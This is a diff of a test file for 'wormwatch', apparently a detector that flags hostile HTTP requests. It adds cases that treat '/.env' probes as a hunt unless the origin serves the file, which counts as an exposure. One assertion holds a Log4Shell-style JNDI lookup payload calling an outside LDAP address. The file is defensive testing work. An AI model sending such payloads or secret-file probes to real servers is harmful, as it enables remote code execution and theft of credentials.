@@ -19,13 +19,21 @@ describe('wormwatch check', () => {
     assert.equal(v.detail, 'x-api-version: ${jndi:ldap://198.51.100.7/a}');
   });
 
-  it('is clean (exit 0) for an ordinary request, and for a 404-stage probe the origin answered 200', () => {
+  it('is clean (exit 0) for an ordinary request, and for a hunt of the site\'s own page the origin answered 200', () => {
     assert.deepEqual({ ...checkRequest(engine, 'GET /index.html HTTP/1.1'), verdict: null }, { verdict: null, exitCode: 0, output: 'clean: no signature matches\n' });
-    assert.equal(checkRequest(engine, 'GET /.env HTTP/1.1', { status: 200 }).exitCode, 0);
+    assert.equal(checkRequest(engine, 'GET /wp-login.php HTTP/1.1', { status: 200 }).exitCode, 0);
     const missing = checkRequest(engine, 'GET /.env HTTP/1.1', { status: 404 });
     assert.equal(missing.exitCode, 1);
-    assert.match(missing.output, /probe-dotenv \(family scanner, 404 stage\)\n/);
-    assert.match(checkRequest(engine, 'GET /.env HTTP/1.1').output, /counts only when the origin answers 404/);
+    assert.match(missing.output, /^detected: probe-dotenv \(family hunt, 404 stage\)\n/);
+    assert.match(checkRequest(engine, 'GET /.env HTTP/1.1', { status: 403 }).output, /^detected: probe-dotenv/, 'refused is a probe too');
+    assert.match(checkRequest(engine, 'GET /.env HTTP/1.1').output, /counts when the origin answers anything but 2xx; a 2xx serving it is an exposure/);
+  });
+
+  it('calls a secret served with 2xx an exposure', () => {
+    const served = checkRequest(engine, 'GET /.env HTTP/1.1', { status: 200 });
+    assert.equal(served.exitCode, 1);
+    assert.match(served.output, /^exposure: probe-dotenv .*\n.*\n  the origin served what this hunts for \(200\)/);
+    assert.equal((JSON.parse(checkRequest(engine, 'GET /.env HTTP/1.1', { status: 200, json: true }).output) as { exposure?: boolean }).exposure, true);
   });
 
   it('runs as a command: exit 1 on a detection, 2 on a usage error', async () => {
